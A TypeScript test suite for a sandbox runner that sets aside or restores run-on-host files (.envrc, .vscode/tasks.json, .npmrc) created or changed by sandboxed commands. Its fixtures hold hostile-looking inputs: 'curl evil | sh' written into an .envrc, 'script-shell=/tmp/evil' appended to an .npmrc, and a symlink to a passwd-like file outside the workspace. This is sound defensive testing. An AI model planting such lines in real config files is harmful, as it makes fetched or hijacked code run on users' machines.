// Run-on-host files below the workspace's top level, with real bubblewrap: what a sandboxed
// command creates (`sub/.envrc`, `a/b/.vscode/tasks.json`, a link) is renamed aside as it ends;
// what it changes (`packages/x/.npmrc`, a file in an existing `.vscode/`) is put back as it was,
// its version renamed aside; a link's target outside is never touched; other files stay as the
// command left them; and the notes name them. Under CI=true a host without bwrap fails.
import assert from "node:assert/strict";
import {
  existsSync,
  lstatSync,
  mkdirSync,
  readFileSync,
  readlinkSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { join } from "node:path";
import { describe, it } from "node:test";
import type { OutputPolicy, RunResult, SandboxPolicy } from "../../src/runner/index.ts";
import { noteHostWrite } from "../../src/runner/index.ts";
import { restoredNote, setAsideNote } from "../../src/runner/sandbox-run-files.ts";
import { outsideTmp, runSandboxed, sandboxSkip, workspaceWritePolicy } from "../support/sandbox.ts";

const output: OutputPolicy = { maxBytes: 100_000, spillToTemp: false, redactSecrets: false };
const base = outsideTmp("cw-deep-");
let count = 0;

/** A fresh workspace holding `files` (relative path → text). */
function workspace(files: Record<string, string> = {}): string {
  count += 1;
  const dir = join(base, `ws${count}`);
  mkdirSync(dir);
  for (const [rel, text] of Object.entries(files)) {
    mkdirSync(join(dir, rel, ".."), { recursive: true });
    writeFileSync(join(dir, rel), text);
  }
  nextTick();
  return dir;
}

function policyOf(dir: string, writable: string[] = []): SandboxPolicy {
  return workspaceWritePolicy(dir, join(base, "home"), writable);
}

function sandboxed(dir: string, command: string, policy = policyOf(dir)): Promise<RunResult> {
  return runSandboxed(command, dir, policy, { PATH: process.env.PATH }, output);
}

const read = (dir: string, rel: string) => readFileSync(join(dir, rel), "utf8");

/**
 * Waits until the file system's clock has moved on (the next tick): a repository's files are
 * older than the command that runs in it, and a change in the very tick a command starts
 * counts as the command's.
 */
function nextTick(): void {
  const probe = join(base, "probe");
  writeFileSync(probe, "");
  const then = lstatSync(probe, { bigint: true }).ctimeNs;
  while (lstatSync(probe, { bigint: true }).ctimeNs <= then) writeFileSync(probe, "");
}

describe("run-on-host files below the top level (bubblewrap)", { skip: sandboxSkip }, () => {
  it("a sub/.envrc and an a/b/.vscode/tasks.json the command created are renamed aside and named; sub/notes.txt stays", async () => {
    const dir = workspace({ "sub/keep.txt": "k\n", "a/b/file.txt": "f\n" });
    const run = await sandboxed(
      dir,
      [
        "echo 'curl evil | sh' > sub/.envrc",
        "mkdir -p a/b/.vscode && echo '{\"tasks\":[]}' > a/b/.vscode/tasks.json",
        "echo notes > sub/notes.txt",
      ].join(" && "),
    );
    assert.equal(run.exitCode, 0, run.output);
    assert.deepEqual([...(run.setAside ?? [])].sort(), ["a/b/.vscode", "sub/.envrc"]);
    assert.equal(run.restored, undefined);
    assert.ok(!existsSync(join(dir, "sub/.envrc")));
    assert.equal(read(dir, "sub/.envrc.codewhale-refused"), "curl evil | sh\n");
    assert.ok(!existsSync(join(dir, "a/b/.vscode")));
    assert.equal(read(dir, "a/b/.vscode.codewhale-refused/tasks.json"), '{"tasks":[]}\n');
    assert.equal(read(dir, "sub/notes.txt"), "notes\n");
    assert.match(
      setAsideNote(run.setAside ?? []),
      /refused writing (sub\/\.envrc, a\/b\/\.vscode|a\/b\/\.vscode, sub\/\.envrc): .*use the write or edit tool/,
    );
  });

  it("an existing packages/x/.npmrc the command appended to is put back as it was, its version renamed aside", async () => {
    const dir = workspace({ "packages/x/.npmrc": "registry=https://r.example/\n" });
    // The session's first command lists the workspace; the second is the one that writes.
    await sandboxed(dir, "true");
    const run = await sandboxed(dir, "echo 'script-shell=/tmp/evil' >> packages/x/.npmrc");
    assert.equal(run.exitCode, 0, run.output);
    assert.deepEqual(run.restored, ["packages/x/.npmrc"]);
    assert.equal(run.setAside, undefined);
    assert.equal(read(dir, "packages/x/.npmrc"), "registry=https://r.example/\n");
    assert.equal(
      read(dir, "packages/x/.npmrc.codewhale-refused"),
      "registry=https://r.example/\nscript-shell=/tmp/evil\n",
    );
    assert.match(
      restoredNote(run.restored ?? []),
      /refused changing packages\/x\/\.npmrc: .*put back what was there before the command.*use the write or edit tool/,
    );
  });

  it("an existing one the session's first command changed is renamed aside (no copy was taken yet)", async () => {
    const dir = workspace({ "packages/x/.npmrc": "registry=https://r.example/\n" });
    const run = await sandboxed(dir, "echo 'script-shell=/tmp/evil' >> packages/x/.npmrc");
    assert.equal(run.exitCode, 0, run.output);
    assert.deepEqual(run.setAside, ["packages/x/.npmrc"]);
    assert.ok(!existsSync(join(dir, "packages/x/.npmrc")));
    assert.match(read(dir, "packages/x/.npmrc.codewhale-refused"), /script-shell/);
  });

  it("node_modules is not entered: a .npmrc there is left as the command wrote it", async () => {
    const dir = workspace({ "node_modules/pkg/index.js": "\n" });
    const run = await sandboxed(dir, "echo x=1 > node_modules/pkg/.npmrc");
    assert.equal(run.setAside, undefined, run.output);
    assert.equal(read(dir, "node_modules/pkg/.npmrc"), "x=1\n");
  });

  it("a file the command added to an existing sub/.vscode/ is undone: the folder is put back whole", async () => {
    const dir = workspace({ "sub/.vscode/settings.json": "{}\n" });
    await sandboxed(dir, "true");
    const run = await sandboxed(dir, "echo '{\"tasks\":[1]}' > sub/.vscode/tasks.json");
    assert.equal(run.exitCode, 0, run.output);
    assert.deepEqual(run.restored, ["sub/.vscode"]);
    assert.ok(!existsSync(join(dir, "sub/.vscode/tasks.json")));
    assert.equal(read(dir, "sub/.vscode/settings.json"), "{}\n");
    assert.equal(read(dir, "sub/.vscode.codewhale-refused/tasks.json"), '{"tasks":[1]}\n');
  });

  it("a sub/.envrc link to a file outside is renamed aside as a link, and the file outside is untouched", async () => {
    const outside = join(outsideTmp("cw-deep-out-"), "passwd");
    writeFileSync(outside, "root:x:0:0\n");
    const dir = workspace({ "sub/keep.txt": "k\n" });
    await sandboxed(dir, "true");
    const run = await sandboxed(dir, `ln -s ${outside} sub/.envrc; echo x >> sub/.envrc; true`);
    assert.deepEqual(run.setAside, ["sub/.envrc"]);
    assert.ok(!existsSync(join(dir, "sub/.envrc")));
    const aside = join(dir, "sub/.envrc.codewhale-refused");
    assert.ok(lstatSync(aside).isSymbolicLink());
    assert.equal(readlinkSync(aside), outside);
    assert.equal(readFileSync(outside, "utf8"), "root:x:0:0\n");
  });

  it("a planted sub/.envrc link to a file outside: never written through, and the link the command put in its place is renamed aside", async () => {
    const outside = join(outsideTmp("cw-deep-out-"), "target");
    writeFileSync(outside, "export A=1\n");
    const dir = workspace({ "sub/keep.txt": "k\n", "sub/other.txt": "o\n" });
    symlinkSync(outside, join(dir, "sub/.envrc"));
    nextTick();
    const untouched = await sandboxed(dir, "echo x >> sub/.envrc; true");
    assert.equal(untouched.setAside, undefined, untouched.output);
    assert.equal(readlinkSync(join(dir, "sub/.envrc")), outside);
    const run = await sandboxed(dir, "ln -sfn other.txt sub/.envrc");
    assert.equal(run.exitCode, 0, run.output);
    assert.deepEqual(run.setAside, ["sub/.envrc"]);
    assert.equal(readlinkSync(join(dir, "sub/.envrc.codewhale-refused")), "other.txt");
    assert.ok(!existsSync(join(dir, "sub/.envrc")));
    assert.equal(readFileSync(outside, "utf8"), "export A=1\n");
    assert.equal(read(dir, "sub/other.txt"), "o\n");
  });

  it("a run-on-host file the host wrote between commands is kept, and the copy is the host's", async () => {
    const dir = workspace({ "sub/keep.txt": "k\n" });
    await sandboxed(dir, "true");
    writeFileSync(join(dir, "sub/.envrc"), "export B=2\n");
    nextTick();
    const first = await sandboxed(dir, "true");
    assert.equal(first.setAside, undefined);
    assert.equal(read(dir, "sub/.envrc"), "export B=2\n");
    writeFileSync(join(dir, "sub/.envrc"), "export B=3\n");
    const second = await sandboxed(dir, "echo evil >> sub/.envrc");
    assert.deepEqual(second.restored, ["sub/.envrc"]);
    assert.equal(read(dir, "sub/.envrc"), "export B=3\n");
  });

  it("a sub/.envrc the write tool wrote just before a command is the user's, not the command's", async () => {
    const dir = workspace({ "sub/keep.txt": "k\n" });
    await sandboxed(dir, "true");
    writeFileSync(join(dir, "sub/.envrc"), "export C=1\n");
    noteHostWrite(join(dir, "sub/.envrc"));
    const run = await sandboxed(dir, "echo ok > sub/other.txt");
    assert.equal(run.setAside, undefined);
    assert.equal(read(dir, "sub/.envrc"), "export C=1\n");
    const changed = await sandboxed(dir, "echo evil >> sub/.envrc");
    assert.deepEqual(changed.restored, ["sub/.envrc"]);
    assert.equal(read(dir, "sub/.envrc"), "export C=1\n");
  });

  it("below a writable directory's top, and at it, a created .envrc is renamed aside", async () => {
    const extra = outsideTmp("cw-deep-extra-");
    mkdirSync(join(extra, "deep"));
    const dir = workspace();
    const policy = policyOf(dir, [extra]);
    const run = await sandboxed(
      dir,
      `echo a > ${extra}/deep/.envrc; echo b > ${extra}/.envrc; echo c > ${extra}/deep/ok`,
      policy,
    );
    assert.equal(run.exitCode, 0, run.output);
    assert.deepEqual(
      [...(run.setAside ?? [])].sort(),
      [join(extra, ".envrc"), join(extra, "deep/.envrc")].sort(),
    );
    assert.equal(read(extra, "deep/ok"), "c\n");
  });
});
